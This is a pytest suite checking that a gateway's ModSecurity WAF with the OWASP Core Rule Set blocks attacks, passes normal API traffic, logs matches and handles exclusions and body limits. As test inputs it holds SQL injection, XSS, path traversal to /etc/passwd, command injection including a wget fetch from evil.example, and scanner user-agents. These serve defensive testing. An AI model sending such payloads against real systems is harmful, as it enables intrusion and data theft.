"""Policy `waf`: ModSecurity v3 with the OWASP Core Rule Set (Debian's modsecurity-crs) in front
of a real upstream. Attacks (SQL injection, XSS, path traversal, command injection, a scanner
User-Agent) in the query, headers, JSON, form and multipart bodies get a 403 problem+json with
the request id and never reach the upstream; ordinary API traffic passes at paranoia level 1;
every request with a matching rule is one JSON line on stderr (rule ids, request id, route);
detection-only mode passes and logs; per-route exclusions by id and tag; the body bound
(reject or skip); response inspection; a bad rules file fails `gatehouse validate` with its
file and line."""
import base64
import json
import os
import subprocess
import uuid

import httpx
import pytest

from support import IO_TIMEOUT, simple_config, wait_until
from support.common import GATEHOUSE_BIN
from support.echo import BackgroundHttpServer
from support.gatehouse import Gatehouse, free_port

CRS = "/usr/share/modsecurity-crs/rules"
pytestmark = pytest.mark.skipif(not os.path.isdir(CRS), reason="modsecurity-crs not installed")


def route(name, prefix, cluster="up", **waf):
    return {"name": name, "match": {"path_prefix": prefix}, "cluster": cluster,
            "policies": [{"name": "waf", "config": waf}]}


def start(gatehouse, echo, *routes):
    return gatehouse(simple_config({"name": "up", "endpoints": [echo.endpoint]},
                                   routes=list(routes) or [route("api", "/")]))


def waf_lines(g):
    out = []
    for line in g.stderr().splitlines():
        if line.startswith('{"') and '"event":"waf"' in line:
            out.append(json.loads(line))
    return out


def waf_line(g, request_id):
    """The WAF's JSON log line for a request (written when the request completes)."""
    return wait_until(lambda: next((e for e in waf_lines(g) if e["request_id"] == request_id),
                                   None), message=f"waf log line for {request_id}")


def send(g, method, path, rid=None, **kw):
    rid = rid or f"waf-{uuid.uuid4()}"
    headers = {"x-request-id": rid, **kw.pop("headers", {})}
    return httpx.request(method, g.url + path, headers=headers, timeout=IO_TIMEOUT, **kw), rid


def assert_blocked(g, echo, method, path, rule_prefix, status=403, **kw):
    before = echo.request_count()
    r, rid = send(g, method, path, **kw)
    assert r.status_code == status, (path, r.status_code, r.text)
    assert r.headers["content-type"] == "application/problem+json"
    body = r.json()
    assert body["status"] == status and body["request_id"] == rid
    assert echo.request_count() == before, "the upstream saw a blocked request"
    line = waf_line(g, rid)
    assert line["action"] == "blocked" and line["route"] == "api", line
    assert any(str(i).startswith(rule_prefix) for i in line["rule_ids"]), line
    assert all(r["msg"] for r in line["rules"]), line
    return line


FORM = {"content-type": "application/x-www-form-urlencoded"}


@pytest.mark.parametrize("case", [
    # SQL injection: query, JSON body, form body.
    ("GET", "/api/users?id=1%27%20OR%20%271%27%3D%271", "942", {}),
    ("POST", "/api/login", "942",
     {"json": {"user": "admin' OR 1=1 -- ", "password": "x"}}),
    ("POST", "/api/search", "942",
     {"content": b"q=1%27%20UNION%20SELECT%20password%20FROM%20users--", "headers": FORM}),
    # XSS: query, JSON, multipart field.
    ("GET", "/api/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "941", {}),
    ("POST", "/api/comments", "941",
     {"json": {"comment": "<img src=x onerror=alert(1)>"}}),
    ("POST", "/api/upload", "941",
     {"files": {"file": ("a.txt", b"hello", "text/plain")},
      "data": {"title": "<script>alert(1)</script>"}}),
    # Path traversal and command injection.
    ("GET", "/api/files?name=..%2F..%2F..%2F..%2Fetc%2Fpasswd", "930", {}),
    ("POST", "/api/ping", "932",
     {"json": {"host": "127.0.0.1; cat /etc/passwd"}}),
    ("GET", "/api/ping?host=8.8.8.8%7Cwget%20http://evil.example/x.sh", "932", {}),
    # A scanner announcing itself.
    ("GET", "/api/users", "913", {"headers": {"user-agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}}),
    ("GET", "/api/users", "913", {"headers": {"user-agent": "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)"}}),
], ids=["sqli-query", "sqli-json", "sqli-form", "xss-query", "xss-json", "xss-multipart",
        "traversal", "cmd-json", "cmd-query", "sqlmap-ua", "nikto-ua"])
def test_attacks_are_blocked_before_the_upstream(gatehouse, echo, case):
    g = start(gatehouse, echo)
    method, path, prefix, kw = case
    assert_blocked(g, echo, method, path, prefix, **kw)


def test_ordinary_api_traffic_passes_at_paranoia_level_1(gatehouse, echo):
    g = start(gatehouse, echo)
    blob = base64.b64encode(bytes(range(256)) * 12).decode()
    token = (base64.urlsafe_b64encode(b'{"alg":"RS256","typ":"JWT"}').rstrip(b"=").decode() + "." +
             base64.urlsafe_b64encode(b'{"sub":"ann","exp":1893456000}').rstrip(b"=").decode() +
             ".c2lnbmF0dXJlLWJ5dGVzLWhlcmU")
    owner = str(uuid.UUID("0b7e7a52-9a8e-4c1e-8a43-5f2d3c1b9e10"))
    ok = [
        ("GET", f"/api/owners/{owner}/orders?since=2026-12-07T10:00:00Z&until=2026-12-08&limit=50",
         {"headers": {"authorization": f"Bearer {token}", "accept": "application/json"}}),
        ("GET", "/api/people?last_name=O%27Brien&first_name=Sin%C3%A9ad", {}),
        ("POST", "/api/people", {"json": {"first_name": "Siobhán", "last_name": "O'Brien",
                                          "nickname": "D'Arcy", "company": "Smith & Sons"}}),
        ("POST", "/api/notes", {"json": {"title": 'He said "hello" and left',
                                         "body": "It's fine; we're done. Don't worry!",
                                         "tags": ["a", "b"], "done": False, "score": 4.5}}),
        ("PUT", f"/api/owners/{owner}/avatar", {"json": {"mime": "image/png", "data": blob}}),
        ("PATCH", f"/api/orders/{owner}", {"json": {"status": "shipped",
                                                    "shipped_at": "2026-12-07T10:15:30.123+01:00"}}),
        ("DELETE", f"/api/orders/{owner}", {}),
        ("POST", "/api/contact", {"content": b"name=Ann+O%27Brien&email=ann%40example.com&"
                                             b"message=Nice+product%2C+thanks%21+Will+order+again.",
                                  "headers": FORM}),
        ("POST", "/api/documents", {"files": {"doc": ("report.txt", b"Quarterly numbers: 1, 2, 3\n",
                                                      "text/plain")},
                                    "data": {"title": "Q3 report", "owner": owner}}),
        ("GET", "/api/search?q=best+coffee+near+me&page=2&sort=-created_at", {}),
    ]
    for method, path, kw in ok:
        before = echo.request_count()
        r, rid = send(g, method, path, **kw)
        assert r.status_code == 200, (method, path, r.text)
        assert echo.request_count() == before + 1
    g.wait_log(lambda e: e.get("path", "").startswith("/api/search"))
    assert [e for e in waf_lines(g) if e["action"] != "passed"] == []


def test_detection_only_passes_and_logs(gatehouse, echo):
    g = start(gatehouse, echo, route("api", "/", mode="detect"))
    before = echo.request_count()
    r, rid = send(g, "GET", "/api/users?id=1%27%20OR%20%271%27%3D%271")
    assert r.status_code == 200, r.text
    assert echo.request_count() == before + 1
    line = waf_line(g, rid)
    assert line["action"] == "detected" and line["status"] == 200
    assert 942100 in line["rule_ids"] and line["inbound_score"] >= 5, line


def test_exclusions_are_per_route(gatehouse, echo):
    g = start(gatehouse, echo,
              route("by-id", "/legacy", exclude_rules=[942100]),
              route("by-tag", "/cms", exclude_tags=["attack-xss"]),
              route("by-range", "/range", exclude_rules=["942000-942999"]),
              route("api", "/"))
    sqli = "?id=1%27%20OR%20%271%27%3D%271"
    xss = "?q=%3Cscript%3Ealert(1)%3C/script%3E"
    for path in ("/legacy/x" + sqli, "/cms/x" + xss, "/range/x" + sqli):
        r, rid = send(g, "GET", path)
        assert r.status_code == 200, (path, r.text)
    # The same requests on a route without exclusions, and other attacks on those routes.
    assert_blocked(g, echo, "GET", "/x" + sqli, "942")
    assert_blocked(g, echo, "GET", "/x" + xss, "941")
    r, _ = send(g, "GET", "/cms/x" + sqli)
    assert r.status_code == 403
    r, _ = send(g, "GET", "/legacy/x" + xss)
    assert r.status_code == 403


def test_body_bound_rejects_or_skips(gatehouse, echo):
    g = start(gatehouse, echo,
              route("strict", "/strict", max_body_size="1KiB"),
              route("skip", "/skip", max_body_size="1KiB", over_limit="skip"),
              route("api", "/"))
    big = {"pad": "x" * 2048, "q": "1' UNION SELECT password FROM users --"}
    before = echo.request_count()
    r, rid = send(g, "POST", "/strict/items", json=big)
    assert r.status_code == 413 and r.json()["request_id"] == rid, r.text
    assert echo.request_count() == before
    assert waf_line(g, rid)["action"] == "too_large"
    # Chunked (no declared length): read up to the bound, then refused.
    r, rid = send(g, "POST", "/strict/items", content=iter([b"a=" + b"x" * 900, b"y" * 900]),
                  headers=FORM)
    assert r.status_code == 413, r.text
    # skip: the body passes uninspected (the attack in it too); headers are still inspected.
    r, rid = send(g, "POST", "/skip/items", json=big)
    assert r.status_code == 200, r.text
    assert echo.request_count() == before + 1
    r, rid = send(g, "POST", "/skip/items", json=big, headers={"user-agent": "sqlmap/1.7"})
    assert r.status_code == 403
    assert waf_line(g, rid)["body_inspected"] is False
    # Within the bound the body is inspected on both routes.
    for prefix in ("/strict", "/skip"):
        r, _ = send(g, "POST", prefix + "/items", json={"q": big["q"]})
        assert r.status_code == 403, (prefix, r.text)


def test_unparsable_json_body_is_refused(gatehouse, echo):
    g = start(gatehouse, echo)
    r, rid = send(g, "POST", "/api/items", content=b'{"a": [1, 2',
                  headers={"content-type": "application/json"})
    assert r.status_code == 400 and r.json()["request_id"] == rid, r.text
    assert 200002 in waf_line(g, rid)["rule_ids"]


def test_own_rule_files_and_paranoia_level(gatehouse, echo, tmp_path):
    rules = tmp_path / "mine.conf"
    rules.write_text('SecRule ARGS:debug "@streq on" '
                     '"id:1000001,phase:1,deny,status:403,log,msg:\'debug switch from outside\'"\n')
    g = start(gatehouse, echo,
              route("pl2", "/pl2", paranoia_level=2),
              route("api", "/", rule_files=[str(rules)]))
    line = assert_blocked(g, echo, "GET", "/api/x?debug=on", "1000001")
    assert line["rules"][0]["msg"] == "debug switch from outside"
    # Requests PL1 lets through and PL2 does not (942260, 942390: SQL-like words and operators).
    for odd in ("/x?q=select%20name%20from%20products", "/x?filter=status%3D%3D1%20or%201"):
        r, _ = send(g, "GET", "/api" + odd)
        assert r.status_code == 200, (odd, r.text)
        r, rid = send(g, "GET", "/pl2" + odd)
        assert r.status_code == 403, (odd, r.text)


def test_response_inspection(gatehouse):
    from http.server import BaseHTTPRequestHandler

    class Leaky(BaseHTTPRequestHandler):
        """Answers a MySQL error page (a data leak CRS's outbound rules catch) on .../leak."""
        protocol_version = "HTTP/1.1"

        def log_message(self, *a):
            pass

        def do_GET(self):
            body = b"fine"
            if self.path.endswith("/leak"):
                body = (b"<html><body>You have an error in your SQL syntax; check the manual "
                        b"that corresponds to your MySQL server version for the right syntax to "
                        b"use near 'x' at line 1</body></html>")
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    up = BackgroundHttpServer(Leaky)
    try:
        g = gatehouse(simple_config({"name": "up", "endpoints": [up.endpoint]}, routes=[
            route("inspect", "/i", inspect_response=True), route("api", "/")]))
        r, rid = send(g, "GET", "/i/fine")
        assert r.status_code == 200 and r.text == "fine"
        r, rid = send(g, "GET", "/i/leak")
        assert r.status_code == 403, r.text
        assert r.headers["content-type"] == "application/problem+json"
        assert r.json()["request_id"] == rid and b"SQL syntax" not in r.content
        line = waf_line(g, rid)
        assert line["action"] == "blocked" and line["route"] == "inspect"
        assert any(str(i).startswith("951") for i in line["rule_ids"]), line
        # Without inspect_response the same page passes.
        r, rid = send(g, "GET", "/leak")
        assert r.status_code == 200 and b"SQL syntax" in r.content
    finally:
        up.stop()


def test_bad_rules_file_fails_validate_with_file_and_line(tmp_path, echo):
    bad = tmp_path / "bad.conf"
    bad.write_text('SecRule ARGS "@rx foo" "id:1000001,phase:2,deny"\n\n'
                   'SecRule ARGS "@rx bar" "id:1000002,phase:2,denyy"\n')
    cfg = simple_config({"name": "up", "endpoints": [echo.endpoint]},
                        routes=[route("api", "/", rule_files=[str(bad)])])
    g = Gatehouse(tmp_path, cfg, name="bad")
    g.port, g.admin_port = free_port(), free_port()  # never bound: only validated
    g.write_config()
    out = subprocess.run([GATEHOUSE_BIN, "validate", str(g.config_path)], capture_output=True,
                         text=True, timeout=60)
    assert out.returncode != 0
    assert f"{bad}:3:" in out.stderr, out.stderr
    assert "routes[0].policies[0]" in out.stderr or "routes[0]" in out.stderr, out.stderr


def test_http2_requests_are_inspected_too(gatehouse, echo):
    g = start(gatehouse, echo)
    with httpx.Client(http1=False, http2=True, timeout=IO_TIMEOUT * 2) as c:
        before = echo.request_count()
        r = c.post(g.url + "/api/login", json={"user": "admin' OR 1=1 -- ", "password": "x"},
                   headers={"x-request-id": "waf-h2-attack"})
        assert r.http_version == "HTTP/2" and r.status_code == 403, r.text
        assert r.json()["request_id"] == "waf-h2-attack"
        assert echo.request_count() == before
        r = c.post(g.url + "/api/people", json={"last_name": "O'Brien"})
        assert r.status_code == 200, r.text
    assert 942100 in waf_line(g, "waf-h2-attack")["rule_ids"]
